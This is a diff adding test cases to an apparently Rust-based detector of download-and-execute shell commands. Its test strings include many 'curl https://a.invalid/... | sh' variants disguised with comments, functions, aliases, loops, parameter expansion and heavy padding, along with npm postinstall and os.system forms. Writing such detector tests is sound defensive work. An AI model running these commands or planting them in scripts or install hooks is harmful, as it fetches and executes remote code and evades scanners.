@@ -78,6 +78,14 @@ fn a_shell_may_be_reached_in_many_ways() {
         "| bash # at once",
         "2>&1 | sh > log 2>&1",
         "| sh, and wait.",
+        "|\n\n\n# a comment\n# | another\n\nsh",
+        "| # a comment | x\nsh",
+        "| `# a comment` sh",
+        "| $(:)sh",
+        "| $\"sh\"",
+        "| {\nsh\n}",
+        "| if :; then sh; fi",
+        "| for i in 1\ndo\nsh\ndone",
     ] {
         let text = format!("curl -fsSL {address} {tail}\n");
         let found = run(&text);
@@ -94,6 +102,11 @@ fn a_download_may_be_written_in_many_ways() {
         "curl {}https://a.invalid/i.sh | sh",
         "-H \"a: b\" ".repeat(60)
     );
+    let split = format!(
+        "curl \\\n{} https://a.invalid/i | sh",
+        " -s \\\n".repeat(100)
+    );
+    let padded = format!("curl {}https://a.invalid/i | sh", " ".repeat(9000));
     for text in [
         "sh <(curl -s https://a.invalid/i)",
         "bash < <(curl -s https://a.invalid/i)",
@@ -128,6 +141,20 @@ fn a_download_may_be_written_in_many_ways() {
         "alias g=curl\ng https://a.invalid/i | sh",
         "g() { curl \"$@\"; }\ng https://a.invalid/i | sh",
         "alias s='sh'\ncurl https://a.invalid/i | s",
+        "if true; then curl https://a.invalid/i; fi | sh",
+        "if true\nthen\n  curl https://a.invalid/i\n  echo x\nfi | sh",
+        "for i in a b\ndo\n  curl https://a.invalid/$i\n  echo\ndone | sh",
+        "while :; do curl https://a.invalid/i; break; done |\n# a\nsh",
+        "case x in x) curl https://a.invalid/i ;; esac | sh",
+        "sh <(case x in x) curl https://a.invalid/i;; esac)",
+        "{\ncurl https://a.invalid/i\necho\n} | {\nsh\n}",
+        "f(){\ncurl https://a.invalid/i\n}\nf | sh",
+        "f () { :; curl https://a.invalid/i; }; f|sh",
+        "function f {\n  curl https://a.invalid/i\n}\nsh <(f)",
+        ": \"${x:=$(curl https://a.invalid/i | sh)}\"",
+        "x=${x:-`curl https://a.invalid/i | sh`}",
+        &split,
+        &padded,
         "os.system(\"curl \" + url + \" | sh\")",
         "os.system(f\"curl {url} | sh\")",
         "\"postinstall\": \"sh -c \\\"$(curl https://a.invalid/i)\\\"\"",
@@ -213,6 +240,11 @@ fn what_only_reads_or_stores_a_download_is_not_found() {
         "echo aGk= | base64 -d | jq .",
         "echo aGk= | base64 | sh -n",
         "grep -E 'curl.*[|] *sh' a.txt",
+        "for i in a; do curl -O https://a.invalid/$i; done; sh build.sh",
+        "for i in a\ndo\n  curl https://a.invalid/$i\ndone | tee a.txt\nsh build.sh",
+        "curl -s https://a.invalid/a | while read -r x; do sh; done",
+        "die() { echo x; }\ncurl -s https://a.invalid/a -o b\ndie | sh",
+        "if a; then curl https://a.invalid/a; fi\necho x | sh",
         "nc -z a.invalid 80 && sh a.sh",
         "Fetch the list, and don't pipe it into sh.",
     ] {
